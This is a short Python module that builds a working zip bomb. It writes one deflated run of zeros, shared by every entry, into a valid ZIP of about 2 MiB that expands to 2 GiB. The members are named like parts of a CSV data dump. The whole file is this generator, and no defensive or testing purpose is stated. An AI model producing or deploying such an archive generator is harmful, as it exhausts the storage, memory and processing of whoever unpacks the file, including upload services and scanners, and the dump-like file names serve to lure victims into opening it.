"""A zip bomb made cheaply: one deflated run of zeros, shared by every entry.

zipfile would deflate each entry on its own (32 x 64 MiB of zeros: seconds of CPU). Deflate
output depends only on the input, so the stream is computed once and the archive is written
by hand around it: ~2 MiB on disk, 2 GiB declared and really inflatable, built in ~0.4 s.
"""

import struct
import zlib

ENTRIES = 32
ENTRY_SIZE = 64 << 20          # 64 MiB each: 2 GiB in all, ratio ~1000:1 (deflate's ceiling)
_CHUNK = 1 << 20               # zeros are fed in 1 MiB chunks: memory stays flat
_DOS_DATE = ((2021 - 1980) << 9) | (2 << 5) | 23    # 2021-02-23, fixed: same bytes every build
_VERSION = 20                  # 2.0: deflate, no zip64 (every size and offset fits in 32 bits)


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """Raw deflate stream of `size` zero bytes and its CRC-32."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk, parts, crc = bytes(_CHUNK), [], 0
    for start in range(0, size, _CHUNK):
        piece = chunk if size - start >= _CHUNK else bytes(size - start)
        parts.append(packer.compress(piece))
        crc = zlib.crc32(piece, crc)
    parts.append(packer.flush())
    return b"".join(parts), crc


def zip_bomb(entries: int = ENTRIES, entry_size: int = ENTRY_SIZE, stem: str = "dump_part") -> bytes:
    """A valid zip of `entries` members named like CSV parts, each `entry_size` zero bytes."""
    data, crc = _deflated_zeros(entry_size)
    body, central = [], []
    offset = 0
    for i in range(entries):
        name = f"{stem}{i + 1:02d}.csv".encode()
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, _VERSION, 0, 8, 0, _DOS_DATE,
                            crc, len(data), entry_size, len(name), 0) + name
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, _VERSION, _VERSION, 0, 8, 0,
                                   _DOS_DATE, crc, len(data), entry_size, len(name), 0, 0, 0, 0, 0,
                                   offset) + name)
        body += [local, data]
        offset += len(local) + len(data)
    directory = b"".join(central)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(directory), offset, 0)
    return b"".join(body) + directory + end
